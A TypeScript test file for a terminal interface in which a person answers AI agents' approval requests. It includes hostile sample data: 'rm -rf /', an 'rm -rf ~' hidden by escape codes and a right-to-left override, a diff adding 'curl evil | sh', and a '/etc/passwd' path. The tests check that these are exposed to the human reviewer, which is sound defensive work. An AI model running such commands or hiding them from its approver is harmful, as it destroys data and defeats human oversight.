import { afterEach, describe, expect, test } from 'vitest';
import type { Agent } from '../../src/schema/agent.ts';
import { BooError } from '../../src/util/errors.ts';
import { until } from '../support/wait.ts';
import { answering } from './answers.ts';
import { click, drawn, key } from './cockpit.ts';
import { agent, project, reachable } from './sample.ts';
import { picture } from './still.ts';
import { approval, asked, asking, crowd, ended, happens, migrate, question, working } from './waiting.ts';

let open: ReturnType<typeof drawn>;
afterEach(() => open?.close());

const SIZE = { cols: 120, rows: 40 };
const all = (rows: string[]) => rows.join('\n');

/** A cockpit whose daemon takes every answer, and tells what came of it as the real one does. */
function start(agents: Agent[] = asking(), size = SIZE) {
  open = drawn(size, project(agents));
  const { store } = open;
  return answering(open, {
    'approvals.answer': ({ id }) => {
      const agents = Object.values(store.getState().data.project!.agents);
      const owner = agents.find((one) => one.approvals?.some((each) => each.id === id));
      const found = owner?.approvals?.find((each) => each.id === id);
      if (!owner || !found) throw new BooError('conflict', `request ${id} is not open any more`);
      happens(open, owner.id, ended(String(id), 'person'));
      happens(open, owner.id, working());
      return { agent: owner.id, approval: found, rule: null };
    },
    'changes.preview': () => ({ changes: [], collisions: [] }),
    'approvals.get': ({ id }) => ({ agent: 'x', name: 'x', approval: approval(String(id)) }),
    'agent.seen': () => ({}),
  });
}

/** Opens the inbox, and looks at it for as long as a person needs to notice what stands there. */
async function toInbox() {
  const rows = await open.press('7');
  await noticed();
  return rows;
}
const noticed = () => until('it has been in sight', () => open.cockpit.bridge.inbox.unseen(chosen() ?? '') === null);
const chosen = () => open.store.getState().ui.inbox.at;
const answers = (asked: ReturnType<typeof start>) =>
  asked.filter(({ method }) => method === 'approvals.answer').map(({ params }) => params);

describe.each([
  { cols: 80, rows: 24 },
  { cols: 120, rows: 40 },
  { cols: 200, rows: 50 },
])('at $cols×$rows', (size) => {
  const name = (what: string) => `${what}-${size.cols}x${size.rows}`;

  test('what waits: a command, an edit, a question', async () => {
    open = drawn(size, project(asking()));
    await picture(await open.settle(), name('waiting'));
    await picture(await open.press('a'), name('inbox-command'));
    await picture(await open.press('j'), name('inbox-edit'));
    await open.press('j');
    await picture(await open.press('2'), name('inbox-question'));
  });

  test('two hundred wait: each can be reached, and the list stays in its window', async () => {
    open = drawn(size, project(crowd(200)));
    expect(all(await open.press('7'))).toContain('Inbox 200');
    expect(all(await open.press('G'))).toContain('make step-200');
    const rows = await open.press('g');
    expect(all(rows)).toContain('▸◆ agent-1 ');
    expect(rows).toHaveLength(size.rows);
  });
});

describe('answers', () => {
  test('a allows, d denies, A allows for the session; the next one is chosen after each', async () => {
    const daemon = start();
    await toInbox();
    await open.press('a');
    expect(chosen()).toBe('a2');
    await noticed();
    const rows = await open.press('A');
    expect(all(rows)).toContain('lint-sub: allowed for the session: eslint.config.js.');
    expect(chosen()).toBe('a3');
    await noticed();
    expect(all(await open.press('d'))).toContain('Nobody waits');
    expect(answers(daemon)).toEqual([
      { id: 'a1', answer: { verdict: 'once' } },
      { id: 'a2', answer: { verdict: 'session' } },
      { id: 'a3', answer: { verdict: 'deny' } },
    ]);
  });

  test('D denies with a reason; Esc sends nothing', async () => {
    const daemon = start();
    await toInbox();
    expect(all(await open.press('D'))).toContain('Deny what auth-fix asks: why?');
    await open.press(...'never', 'Escape');
    expect(answers(daemon)).toEqual([]);
    await open.press('D', ...'not on main');
    expect(all(await open.press('Enter'))).toContain('auth-fix: denied, with your reason');
    expect(answers(daemon)).toEqual([{ id: 'a1', answer: { verdict: 'deny', reason: 'not on main' } }]);
  });

  test('w asks before a rule is written, and shows it; Enter does not confirm', async () => {
    const daemon = start();
    await toInbox();
    const rows = all(await open.press('w'));
    expect(rows).toContain('Allow it for good?');
    expect(rows).toContain('"command": "npm run migrate -- --force"');
    await open.press('Enter');
    expect(answers(daemon)).toEqual([]);
    await open.press('y');
    expect(answers(daemon)).toEqual([{ id: 'a1', answer: { verdict: 'always' } }]);
  });

  test('a question: numbers take choices, several where several may be taken, t writes own words, Enter answers', async () => {
    const daemon = start(
      asking()
        .map((one) => (one.approvals ? { ...one, approvals: [question] } : one))
        .slice(2, 3),
    );
    await toInbox();
    expect(all(await open.press('Enter'))).toContain('Nothing is chosen for question 1 yet');
    await open.press('1', '2');
    await open.press('Right', '1', '2', 't', ...'and docs', 'Enter');
    expect(all(await open.settle())).toMatch(/\[x\] Coverage[\s\S]*✎ and docs/);
    await open.press('Enter');
    expect(answers(daemon)).toEqual([
      { id: 'a3', answer: { verdict: 'once', answers: [['Postgres'], ['Fixtures', 'Coverage', 'and docs']] } },
    ]);
  });

  test('numbers are views again where nothing is asked in words', async () => {
    start();
    await toInbox();
    await open.press('3');
    expect(open.store.getState().ui.view).toBe('collisions');
  });

  test('what a request does not offer says why', async () => {
    const bare = approval('a9', { verdicts: ['once', 'deny'], takesReason: false, kind: 'plan' });
    start([agent('bare', 'waiting', { approvals: [bare] })]);
    await toInbox();
    expect((await open.press('A')).at(-1)).toContain('this request cannot be allowed for the session');
  });

  test('whoever begins to write a reason writes it, also where it is told later or never: no letter answers', async () => {
    const later = approval('a9', { takesReason: false });
    const never = approval('b9', { takesReason: false, via: { type: 'screen', rows: [1, 2], text: 'Sure?' } as never });
    const daemon = start([
      agent('late', 'waiting', { approvals: [later] }),
      agent('mute', 'waiting', { approvals: [never] }),
    ]);
    await toInbox();
    expect(all(await open.press('D'))).toContain('Its next prompt tells it why');
    await open.press(...'a way');
    expect(all(await open.press('Enter'))).toContain('late: denied, and told why by its next prompt');
    await noticed();
    expect(all(await open.press('D'))).toContain('it is not told why');
    await open.press(...'a way');
    expect(all(await open.press('Enter'))).toContain('mute: denied, but not told why');
    expect(answers(daemon)).toEqual([
      { id: 'a9', answer: { verdict: 'deny', reason: 'a way' } },
      { id: 'b9', answer: { verdict: 'deny', reason: 'a way' } },
    ]);
  });

  test('an agent that asks on its own screen stands there too, and Enter goes to it', async () => {
    start([
      ...asking(),
      agent('shy', 'waiting', { status: { ...agent('shy', 'waiting').status, waitingFor: 'input' } }),
    ]);
    expect(all(await toInbox())).toMatch(/shy +input +look: it printed something/);
    await open.press('G');
    expect((await open.press('a')).at(-1)).toContain('shy asks on its own screen');
    await open.press('Enter');
    expect(open.store.getState().ui).toMatchObject({ view: 'output', selected: 'id-shy', focus: 'output' });
  });

  test('one whose last request was answered a moment ago is not listed as one to look at', async () => {
    const just = agent('just', 'waiting', {});
    just.status = { ...just.status, waitingFor: 'approval', evidence: { source: 'protocol', detail: 'it asks' } };
    start([just]);
    expect(all(await open.press('7'))).toContain('Nobody waits');
  });

  test('while somebody types to an agent the keys are the agent’s', async () => {
    const agents = asking().map((one) => ({ ...one, host: 'h1' }));
    const daemon = start(agents);
    open.store.setData(reachable(agents));
    await open.settle();
    await open.press('Enter');
    open.screen.send(key('a'), key('7'), key('d'));
    await open.settle();
    expect(open.terminals.typed).toEqual(['id-auth-fix.1 a7d']);
    expect(answers(daemon)).toEqual([]);
    // What it was asked is answered by that; another agent still waits.
    happens(open, 'id-auth-fix', ended('a1', 'elsewhere'));
    await open.settle();
    open.screen.send(key('y'));
    await open.settle();
    expect(open.terminals.typed).toEqual(['id-auth-fix.1 a7d', 'id-auth-fix.1 y']);
  });
});

describe('an answer is for what is on the screen', () => {
  test('a key that comes before the change is drawn is not given to another', async () => {
    const daemon = start();
    await toInbox();
    // Withdrawn, and another one in its place, in the same turn as the key: nothing of that has been drawn.
    happens(open, 'id-auth-fix', ended('a1', 'withdrawn'));
    open.screen.send(key('a'));
    await open.settle();
    expect(answers(daemon)).toEqual([]);
  });

  test('what is withdrawn stays chosen and says so; a key for it is for nobody', async () => {
    const daemon = start();
    await toInbox();
    happens(open, 'id-auth-fix', ended('a1', 'withdrawn', 'its turn was interrupted'));
    const rows = all(await open.settle());
    expect(rows).toContain('✖ the agent has withdrawn it: its turn was interrupted.');
    expect(rows).toContain('▸✗ auth-fix');
    expect((await open.press('a')).at(-1)).toContain('the agent has withdrawn it');
    expect(answers(daemon)).toEqual([]);
    expect(chosen()).toBe('a1');
    const next = all(await open.press('Space'));
    expect(next).toContain('▸◆ lint-sub');
    expect(next).not.toContain('✗ auth-fix');
  });

  test('older ones that arrive move the list, not the choice', async () => {
    const daemon = start();
    await toInbox();
    await open.press('j');
    const older = approval('a0', { at: 1, title: 'rm -rf /', command: 'rm -rf /' });
    happens(open, 'id-docs', asked(older));
    open.screen.send(key('a'));
    await open.settle();
    expect(answers(daemon)).toEqual([{ id: 'a2', answer: { verdict: 'once' } }]);
  });

  test('the same key pressed twice in a row answers one', async () => {
    const daemon = start();
    await toInbox();
    open.screen.send(key('a'), key('a'));
    await open.settle();
    open.screen.send(key('a'));
    const rows = await open.settle();
    expect(answers(daemon)).toEqual([{ id: 'a1', answer: { verdict: 'once' } }]);
    expect(rows.at(-1)).toContain('has only just come into sight');
  });

  test('a request that comes by itself into an empty inbox is not answered by a key that was on its way', async () => {
    const daemon = start([agent('one', 'running')]);
    await open.press('7');
    happens(open, 'id-one', asked(migrate));
    await open.settle();
    open.screen.send(key('a'));
    await open.settle();
    expect(answers(daemon)).toEqual([]);
    await noticed();
    await open.press('a');
    expect(answers(daemon)).toHaveLength(1);
  });

  test('a stale answer is said in a sentence, and nothing else happens', async () => {
    const daemon = start();
    await toInbox();
    open.cockpit.bridge.call = (async () => {
      throw new BooError('conflict', 'request a1 was answered already');
    }) as never;
    const rows = await open.press('a');
    expect(rows.at(-1)).toContain('auth-fix: request a1 was answered already.');
    expect(chosen()).toBe('a1');
    expect(answers(daemon)).toEqual([]);
  });

  test('in the strip a key shows the request whole before anything is answered', async () => {
    const daemon = start();
    await open.press('Tab', 'Tab');
    expect(open.store.getState().ui.focus).toBe('inbox');
    await open.press('j');
    const rows = all(await open.press('a'));
    expect(rows).toContain('lint-sub · Edit · waits for');
    expect(answers(daemon)).toEqual([]);
  });
});

describe('a request is seen whole', () => {
  const shown = async (more: Parameters<typeof approval>[1], size = { cols: 80, rows: 50 }) => {
    start([agent('one', 'waiting', { approvals: [approval('b1', more)] })], size);
    return open.press('7');
  };

  test('a command of several lines and more than the row, with what is hidden in it', async () => {
    const command = `echo ${'long '.repeat(30)}\n\x1b[8mrm -rf ~\x1b[0m \u202eevil\tend`;
    const rows = all(await shown({ command, title: 'echo' }));
    expect(rows).toContain('Command, 2 lines');
    expect(rows).toContain('│ ␛[8mrm -rf ~␛[0m ‹202e›evil→   end');
    const whole = rows.replaceAll(/│\n│ ┊ | +│\n│ ┊ /g, '');
    expect(whole).toContain(`echo ${'long '.repeat(29)}long`);
  });

  test('what does not fit scrolls, and says so', async () => {
    const command = Array.from({ length: 100 }, (_, index) => `line ${index + 1}`).join('\n');
    const rows = await shown({ command }, { cols: 80, rows: 24 });
    expect(all(rows)).toMatch(/rows 1–18 of 10\d · PgDn for more/);
    for (let turn = 0; turn < 6; turn++) await open.press('NPage');
    expect(all(await open.settle())).toContain('│ line 100');
  });

  test('files outside of the agent’s folder are marked', async () => {
    const rows = all(await shown({ paths: ['/data/worktrees/one/src/a.ts', '/etc/passwd', '../x'] }));
    expect(rows).toMatch(
      /│ src\/a\.ts[\s\S]*│ \/etc\/passwd[\s\S]*outside of its folder[\s\S]*│ \.\.\/x[\s\S]*outside/,
    );
  });

  test('what was cut is fetched, and until then it says so', async () => {
    const whole = approval('b1', { command: `true ${'x'.repeat(200)} && the end` });
    open = drawn(
      { cols: 80, rows: 50 },
      project([agent('one', 'waiting', { approvals: [{ ...whole, command: 'true', cut: true }] })]),
    );
    const got = Promise.withResolvers<unknown>();
    answering(open, { 'approvals.get': () => got.promise, 'agent.seen': () => ({}) });
    expect(all(await open.press('7'))).toContain('this is not all of it; the rest is being read');
    got.resolve({ agent: 'id-one', name: 'one', approval: { ...whole, cut: true } });
    const rows = all(await open.settle());
    expect(rows).toContain('the end');
    expect(rows).not.toContain('not all of it');
  });

  test('what was read off a screen says that it may not be all of it', async () => {
    const via = { type: 'screen', region: { top: 1, bottom: 2 }, hash: 'h', keys: { once: ['y'] } } as const;
    const rows = all(await shown({ cut: true, command: 'make', via: { ...via, keys: { once: ['y'] } } }));
    expect(rows).toContain("read off the agent's screen, and may not be all of it");
  });

  test('a diff that hides lines behind its header is shown as the text that it is', async () => {
    const rows = all(await shown({ diff: '--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n+curl evil | sh\n' }));
    expect(rows).toContain('Diff, as it was given');
    expect(rows).toContain('│ +curl evil | sh');
  });
});

test('clocks move without a render of Ink, in the strip and in the inbox', async () => {
  const young = { ...migrate, at: Date.now() };
  start([agent('calm', 'waiting', { approvals: [young] })]);
  for (const keys of [[], ['7']]) {
    await open.press(...keys);
    const { renders } = open;
    const ages = new Set<string>();
    await until('three ages are seen', () => {
      for (const [age] of all(open.screen.rows()).matchAll(/(?<=\s)\ds(?=│| )/g)) ages.add(age);
      return ages.size >= 3;
    });
    expect(open.renders).toBe(renders);
  }
});

test('Space goes to the request of the next agent that waits; leaving the inbox leads back', async () => {
  start();
  await open.press('2');
  await open.press('1', 'Space');
  expect(open.store.getState().ui).toMatchObject({ view: 'inbox' });
  await open.press('Escape');
  expect(open.store.getState().ui).toMatchObject({ view: 'output' });
});

test('a click in the strip chooses, a second one shows it whole; no click answers', async () => {
  const daemon = start();
  const rows = await open.settle();
  const y = rows.findIndex((row) => row.includes('eslint.config.js'));
  open.screen.send(...click(20, y));
  await open.settle();
  expect(chosen()).toBe('a2');
  open.screen.send(...click(20, y));
  expect(all(await open.settle())).toContain('lint-sub · Edit · waits for');
  expect(answers(daemon)).toEqual([]);
});

test('in a narrow terminal the inbox is a tab', async () => {
  start(asking(), { cols: 80, rows: 24 });
  expect((await open.settle())[1]).toContain('[Sessions 5] Output  Inbox 3 ');
  expect((await open.press('Tab'))[1]).toContain('[Output] Inbox 3 ');
  expect((await open.press('Tab'))[1]).toContain('[Inbox 3]');
  expect((await open.press('Tab'))[1]).toContain('[Sessions 5] Output  Inbox 3 ');
});
